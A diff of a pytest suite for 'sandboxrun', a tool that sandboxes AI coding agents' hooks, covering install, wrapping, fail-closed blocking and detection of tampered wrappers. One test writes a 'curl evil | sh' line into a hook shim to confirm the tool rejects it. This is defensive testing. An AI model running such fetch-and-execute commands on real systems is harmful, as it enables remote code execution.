@@ -20,12 +20,15 @@ from loguru import logger
 import sandboxrun._cli as cli
 from sandboxrun import CombinedResult, HookOutcome, HookSpec
 from sandboxrun._dialects.claude.dialect import CLAUDE
-from sandboxrun._dialects.claude.wrapped import unwrap, wrap
+from sandboxrun._dialects.claude.wrapped import wrap
 from sandboxrun._dialects.cline import CLINE
-from sandboxrun._dialects.installed import read_shim
+from sandboxrun._dialects.installed import read_shim as _read_shim
 from sandboxrun._install import answer as _answer
+from sandboxrun._install import command as _command
 from sandboxrun._install import files as _files
 from sandboxrun._install import jsonspan
+from sandboxrun._install.cline import shim_text
+from sandboxrun._install.record import Record, value_key
 
 SETTINGS = """{
 \t"env": {"KEEP": "é and \\u00e9"},
@@ -64,6 +67,31 @@ def project(tmp_path: Path, home: Path) -> Path:
 
 def sandboxrun(*args: str) -> int:
     return cli.main(list(args))
+
+
+SR = os.path.join(os.path.dirname(sys.executable), "sandboxrun")  # this venv's script
+
+
+def launcher() -> list[str]:
+    """What install writes to start this sandboxrun: PYTHON -I SCRIPT."""
+    return _command.launcher()
+
+
+def read_shim(path: object, home: Path) -> Any:
+    """The shim install (its record in `home`) wrote at `path`, else None."""
+    return _read_shim(str(path), Record(str(home)))
+
+
+@pytest.fixture
+def movable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A copy of sandboxrun's script that install uses (and a test may remove, as a
+    user who moves or uninstalls sandboxrun does)."""
+    script = tmp_path / "opt" / "bin" / "sandboxrun"
+    script.parent.mkdir(parents=True)
+    script.write_bytes(Path(SR).read_bytes())
+    script.chmod(0o755)
+    monkeypatch.setattr(_command, "executable", lambda: str(script))
+    return script
 
 
 def snapshot(root: Path) -> dict[str, tuple[int, bytes | None]]:
@@ -116,30 +144,20 @@ def test_replace_values_changes_only_those_bytes() -> None:
         ("/opt/my tool", [], None),
     ],
 )
-def test_wrap_then_unwrap_is_the_original(
+def test_the_wrapper_hands_the_whole_command_to_exec(
     command: str, args: list[str] | None, shell: str | None
 ) -> None:
-    new_command, new_args = wrap("/x/bin/sandboxrun", "claude", command, args, shell)
-    original = unwrap(new_command, new_args, shell)
-    assert original is not None
-    assert original.command == command
-    assert original.args == (None if args is None else tuple(args))
-    if args is None:  # the whole command is ONE argument after `--`: the sandbox's shell's
-        words = shlex.split(new_command)
-        assert words[:5] == ["/x/bin/sandboxrun", "exec", "--agent", "claude", "--"]
-
-
-@pytest.mark.parametrize(
-    "command",
-    [
-        "sandboxrun exec --network bridge -- 'curl x'",  # a repository's own sandbox: not ours
-        "sandboxrun run PreToolUse",
-        "./sandboxrun.sh exec -- x",
-        "sandboxrun exec -- a b",  # several words: not a whole-command wrapper
-    ],
-)
-def test_only_installs_own_wrappers_count(command: str) -> None:
-    assert unwrap(command, None) is None
+    """The agent's shell runs nothing of the original: a shell string is ONE argument
+    after `--` (the sandbox's shell's); an `args` handler keeps its argv, no shell."""
+    launch = ["/x/bin/python3", "-I", "/x/bin/sandboxrun"]
+    new_command, new_args = wrap(launch, "claude", command, args, shell, ["--untrusted"])
+    head = ["exec", "--agent", "claude", "--untrusted", "--"]
+    if args is None:
+        tail = ["bash", "-c", command] if shell == "bash" else [command]
+        assert shlex.split(new_command) == [*launch, *head, *tail]
+    else:
+        tail = [command, *args] if args else [shlex.quote(command)]
+        assert [new_command, *(new_args or [])] == [*launch, *head, *tail]
 
 
 # -- Claude family: settings files ---------------------------------------------------------
@@ -152,14 +170,15 @@ def test_install_wraps_every_command_hook_and_keeps_the_rest(project, home, caps
     text = path.read_bytes().decode()
     data = json.loads(text)
     pre = data["hooks"]["PreToolUse"][0]["hooks"]
-    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
+    py, flag, sr = launcher()
+    assert (flag, sr) == ("-I", SR) and os.path.isabs(py)  # Python isolated from the agent's env
     assert shlex.split(pre[0]["command"]) == [
-        sr, "exec", "--agent", "claude", "--timeout", "28", "--",
+        py, "-I", sr, "exec", "--agent", "claude", "--untrusted", "--timeout", "28", "--",
         "./hooks/guard.sh | tee -a /tmp/log 2>&1",
     ]  # fmt: skip
-    assert pre[1]["command"] == sr
-    assert pre[1]["args"] == ["exec", "--agent", "claude", "--", "python3", "hooks/g.py",
-                              "a b", "$HOME"]  # fmt: skip
+    assert pre[1]["command"] == py
+    assert pre[1]["args"] == ["-I", sr, "exec", "--agent", "claude", "--untrusted", "--",
+                              "python3", "hooks/g.py", "a b", "$HOME"]  # fmt: skip
     assert pre[2] == {"type": "http", "url": "http://example.invalid"}
     stop = data["hooks"]["Stop"][0]["hooks"][0]
     assert shlex.split(stop["command"])[-3:] == ["bash", "-c", 'echo "done"']
@@ -285,52 +304,44 @@ def test_a_pulled_hook_is_named_and_a_second_install_wraps_it(project, home, cap
     assert (project / ".claude" / "settings.json").read_bytes() == SETTINGS.encode()
 
 
-def test_a_wrapper_from_the_workspace_is_not_trusted(project, home, capsys) -> None:
-    """A repository that writes its own "wrapper" (its own sandboxrun, or its own config
-    file) is named by `list`: it chose its sandbox."""
+def test_a_wrapper_whose_sandboxrun_lies_in_the_workspace_is_named(
+    project, home, monkeypatch, capsys
+) -> None:
+    """A sandboxrun installed inside the project (its own `.venv`) is one a repository
+    can replace: `list` names each wrapper that starts it."""
+    inside = project / ".venv" / "bin" / "sandboxrun"
+    inside.parent.mkdir(parents=True)
+    inside.write_bytes(Path(SR).read_bytes())
+    monkeypatch.setattr(_command, "executable", lambda: str(inside))
     sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
-    local = project / ".claude" / "settings.local.json"
-    own = "sandboxrun exec --agent claude --config .claude/c.toml -- ./x.sh"
-    hook = {"type": "command", "command": own}
-    local.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [hook]}]}}))
     capsys.readouterr()
     sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
     out = capsys.readouterr().out
-    assert (
-        f"not trusted: {local} hooks.Stop[0].hooks[0] runs 'sandboxrun' from the workspace or PATH"
-        in out
-    )
-    hook["command"] = own.replace("sandboxrun exec", "/usr/bin/sandboxrun exec")
-    local.write_text(json.dumps({"hooks": {"Stop": [{"hooks": [hook]}]}}))
-    sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
-    assert "runs '.claude/c.toml' from the workspace or PATH" in capsys.readouterr().out
+    assert out.count(f"runs {str(inside)!r} from the workspace or PATH") == 3
 
 
-def test_a_wrapper_whose_sandboxrun_is_gone_is_named(project, home, capsys) -> None:
-    path = project / ".claude" / "settings.json"
+def test_a_wrapper_whose_sandboxrun_is_gone_is_named(project, home, movable, capsys) -> None:
     sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home))
-    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
-    path.write_bytes(path.read_bytes().replace(sr.encode(), b"/gone/bin/sandboxrun"))
+    movable.unlink()
     capsys.readouterr()
     sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
     out = capsys.readouterr().out
-    assert out.count("runs '/gone/bin/sandboxrun', which is missing") == 3
+    assert out.count(f"runs {str(movable)!r}, which is missing") == 3
 
 
-def test_fail_closed_wrappers_block_when_sandboxrun_is_gone(project, home) -> None:
+def test_fail_closed_wrappers_block_when_sandboxrun_is_gone(project, home, movable) -> None:
     """Moved or uninstalled, sandboxrun would leave exit 127, which the agent reads as a
     non-blocking error; a fail-closed wrapper blocks instead (exit 2, the reason)."""
     path = project / ".claude" / "settings.json"
     sandboxrun("install", "--agent", "claude", "--workspace", str(project), "--home", str(home),
                "--fail-closed")  # fmt: skip
-    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
     found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
     assert found[0].argv == ("/bin/sh", "-c", "./hooks/guard.sh | tee -a /tmp/log 2>&1")
-    path.write_bytes(path.read_bytes().replace(sr.encode(), b"/gone/bin/sandboxrun"))
+    movable.unlink()
     command = json.loads(path.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
     done = subprocess.run(["sh", "-c", command], capture_output=True, cwd=project, check=False)
     assert (done.returncode, done.stdout) == (2, b"")
-    assert done.stderr == b"sandboxrun (fail-closed): /gone/bin/sandboxrun is missing\n"
+    assert done.stderr == f"sandboxrun (fail-closed): {movable} is missing\n".encode()
 
 
 def test_a_file_changed_since_install_is_unwrapped_in_place(project, home, capsys) -> None:
@@ -365,7 +376,7 @@ def test_managed_settings_forward_every_event(home, tmp_path) -> None:
     assert set(data["hooks"]) == set(CLAUDE.hook_names)
     command = data["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
     assert command.startswith("[ -x ")  # fail-closed: a missing sandboxrun blocks
-    assert shlex.split(command.partition("exit 2; }; ")[2])[1:] == ["run", "PreToolUse", "--agent", "claude", "--answer",
+    assert shlex.split(command.partition("exit 2; }; ")[2])[3:] == ["run", "PreToolUse", "--agent", "claude", "--answer",
                                         "agent", "--fail-closed", "--home", str(home)]  # fmt: skip
     assert managed.read_text().startswith('{\n    "model"')  # its indentation
     once = managed.read_bytes()
@@ -402,7 +413,7 @@ def test_cline_install_shims_and_uninstall_restores_modes(cline_ws, home) -> Non
     legacy, sdk = cline_ws / ".clinerules/hooks", cline_ws / ".cline/hooks"
     assert sorted(os.listdir(legacy)) == ["PreToolUse"]
     assert sorted(os.listdir(sdk)) == ["PostToolUse"]
-    shim = read_shim(str(legacy / "PreToolUse"))
+    shim = read_shim(legacy / "PreToolUse", home)
     assert shim is not None and shim.hooks_dirs == (
         str(cline_ws / ".sandboxrun/moved/.clinerules/hooks"),
     )
@@ -420,21 +431,20 @@ def test_cline_install_shims_and_uninstall_restores_modes(cline_ws, home) -> Non
     assert snapshot(cline_ws) == before
 
 
-def test_cline_fail_closed_shim_cancels_when_sandboxrun_is_gone(cline_ws, home) -> None:
+def test_cline_fail_closed_shim_cancels_when_sandboxrun_is_gone(cline_ws, home, movable) -> None:
     shim = cline_ws / ".clinerules/hooks/PreToolUse"
     sandboxrun("install", "--agent", "cline", "--workspace", str(cline_ws), "--home", str(home),
                "--fail-closed")  # fmt: skip
-    assert read_shim(str(shim)) is not None
-    sr = os.path.join(os.path.dirname(sys.executable), "sandboxrun")
-    shim.write_bytes(shim.read_bytes().replace(sr.encode(), b"/gone/bin/sandboxrun"))
-    assert read_shim(str(shim)) is not None  # still one of ours: list names it as broken
+    assert read_shim(shim, home) is not None
+    movable.unlink()
+    assert read_shim(shim, home) is not None  # still one of ours: list names it as broken
     done = subprocess.run(["/bin/sh", "-c", str(shim)], capture_output=True, check=False)
     assert done.returncode == 0
     assert json.loads(done.stdout) == {"cancel": True, "contextModification": "",
-        "errorMessage": "sandboxrun (fail-closed): /gone/bin/sandboxrun is missing"}  # fmt: skip
-    lines = shim.read_text().split("\n")  # a guard line that is not exactly ours: not a shim
+        "errorMessage": f"sandboxrun (fail-closed): {movable} is missing"}  # fmt: skip
+    lines = shim.read_text().split("\n")  # a shim changed by one line: not ours any more
     shim.write_text("\n".join([*lines[:3], "curl evil | sh", *lines[4:]]))
-    assert read_shim(str(shim)) is None
+    assert read_shim(shim, home) is None
 
 
 def test_cline_dry_run(cline_ws, home, capsys) -> None:
@@ -455,7 +465,7 @@ def test_cline_pulled_hook_is_named_then_moved(cline_ws, home, make_hook, capsys
     sandboxrun("list", "--workspace", str(cline_ws), "--home", str(home))
     assert f"not wrapped: {new} runs unsandboxed" in capsys.readouterr().out
     assert sandboxrun("install", *args) == 0
-    assert read_shim(str(new)) is not None
+    assert read_shim(new, home) is not None
     assert (cline_ws / ".sandboxrun/moved/.clinerules/hooks/UserPromptSubmit").exists()
     # A hook enabled in the moved folder after install has no shim: it runs nowhere.
     disabled = cline_ws / ".sandboxrun/moved/.clinerules/hooks/TaskStart"
@@ -483,7 +493,7 @@ def test_cline_interrupted_install_loses_nothing(cline_ws, home, monkeypatch) ->
     assert sandboxrun("install", *args) == 2
     monkeypatch.setattr(_files.os, "replace", real)
     assert sandboxrun("install", *args) == 0
-    assert read_shim(str(cline_ws / ".clinerules/hooks/PreToolUse")) is not None
+    assert read_shim(cline_ws / ".clinerules/hooks/PreToolUse", home) is not None
     assert sandboxrun("uninstall", *args) == 0
     assert snapshot(cline_ws) == before
 
@@ -495,7 +505,7 @@ def test_cline_global_forwarders(home, cline_ws, make_hook) -> None:
     assert sorted(os.listdir(home / ".cline/hooks")) == sorted(CLINE.hook_names)
     made = home / "Documents/Cline/Hooks"  # made by install, which says how far up
     assert sorted(os.listdir(made)) == sorted([*CLINE.hook_names, ".sandboxrun-made"])
-    shim = read_shim(str(own))
+    shim = read_shim(own, home)
     assert shim is not None and shim.hooks_dirs == (
         str(home / ".sandboxrun/moved/.cline/hooks"),
         ".sandboxrun/moved/.cline/hooks",
@@ -507,7 +517,9 @@ def test_cline_global_forwarders(home, cline_ws, make_hook) -> None:
     assert os.listdir(cline_ws / ".clinerules/hooks") == []
     assert sandboxrun("uninstall", *ws_args) == 0
     assert sandboxrun("uninstall", "--agent", "cline", "--global", "--home", str(home)) == 0
-    assert snapshot(home) == before_home  # the Documents/Cline/Hooks it made are gone too
+    after = {k: v for k, v in snapshot(home).items() if not k.startswith(".local")}
+    assert after == before_home  # the Documents/Cline/Hooks it made are gone too
+    assert list((home / ".local/share/sandboxrun/install").iterdir()) == []  # no record left
 
 
 # -- run --answer agent ------------------------------------------------------------------
